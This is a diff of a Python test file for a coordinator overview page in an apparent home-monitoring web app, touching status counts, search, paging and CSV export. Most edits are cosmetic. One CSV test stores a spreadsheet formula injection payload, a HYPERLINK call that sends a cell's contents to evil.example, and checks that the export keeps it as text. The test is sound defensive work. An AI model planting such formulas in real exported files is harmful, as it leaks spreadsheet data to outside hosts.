@@ -25,7 +25,7 @@ def _homes(page: str) -> list[tuple[str, str]]:
 
 
 def _count(page: str, state: str) -> int:
-    m = re.search(rf'data-count="{state}"[^>]*>.*?<strong>(\d+)</strong>', page, re.S)
+    m = re.search(rf'data-count="{state}"[^>]*>.*?<strong>(\d+)</strong>', page, re.DOTALL)
     assert m, state
     return int(m.group(1))
 
@@ -41,7 +41,7 @@ def test_one_status_per_home_most_urgent_first() -> None:
 
 
 def test_overview_puts_the_unanswered_alert_first_and_a_late_bulb_never_shows_well(
-        site: Site) -> None:
+        site: Site) -> None:  # noqa: F811 - the fixture
     coord = site.sign_in(None)
     page = coord.get("/coordinator").text
     homes = _homes(page)
@@ -57,7 +57,8 @@ def test_overview_puts_the_unanswered_alert_first_and_a_late_bulb_never_shows_we
     assert [_count(page, s) for s in ("all", *status.STATES)] == [4, 1, 0, 2, 1, 0]
 
 
-def test_a_count_filters_and_a_claim_moves_the_home_at_once(site: Site) -> None:
+def test_a_count_filters_and_a_claim_moves_the_home_at_once(
+        site: Site) -> None:  # noqa: F811 - the fixture
     coord = site.sign_in(None)
     page = coord.get("/coordinator").text
     href = re.search(r'data-count="late" href="([^"]+)"', page).group(1)
@@ -74,7 +75,8 @@ def test_a_count_filters_and_a_claim_moves_the_home_at_once(site: Site) -> None:
         "data-household=") == 0
 
 
-def test_search_finds_homes_by_id_name_and_watcher_and_escapes_wildcards(site: Site) -> None:
+def test_search_finds_homes_by_id_name_and_watcher_and_escapes_wildcards(
+        site: Site) -> None:  # noqa: F811 - the fixture
     coord = site.sign_in(None)
 
     def found(q: str) -> list[str]:
@@ -88,7 +90,8 @@ def test_search_finds_homes_by_id_name_and_watcher_and_escapes_wildcards(site: S
     assert 'id="no-match"' in page and _count(page, "all") == 0
 
 
-def test_pages_of_twenty_keep_the_filter_and_search(site: Site) -> None:
+def test_pages_of_twenty_keep_the_filter_and_search(
+        site: Site) -> None:  # noqa: F811 - the fixture
     with site.db.tx() as c:
         for i in range(45):
             hh.add_household(c, NOW_MS, f"extra-{i:02d}", name=f"Kita {i} (Koromogawa 1-{i})")
@@ -109,7 +112,8 @@ def test_pages_of_twenty_keep_the_filter_and_search(site: Site) -> None:
                          ).status_code == 200
 
 
-def test_csv_headers_follow_the_reader_and_a_formula_name_stays_text(site: Site) -> None:
+def test_csv_headers_follow_the_reader_and_a_formula_name_stays_text(
+        site: Site) -> None:  # noqa: F811 - the fixture
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     with site.db.tx() as c:
         c.execute("UPDATE households SET name = ? WHERE id = 'tanaka'", (hostile,))
@@ -138,7 +142,8 @@ def test_csv_headers_follow_the_reader_and_a_formula_name_stays_text(site: Site)
         assert int(rows["total"][k]) == sum(int(x[k]) for h, x in rows.items() if h != "total")
 
 
-def test_weekly_check_lists_watchers_until_they_sign_in_by_mail(site: Site) -> None:
+def test_weekly_check_lists_watchers_until_they_sign_in_by_mail(
+        site: Site) -> None:  # noqa: F811 - the fixture
     coord = site.sign_in(None)
 
     def listed() -> set[str]:
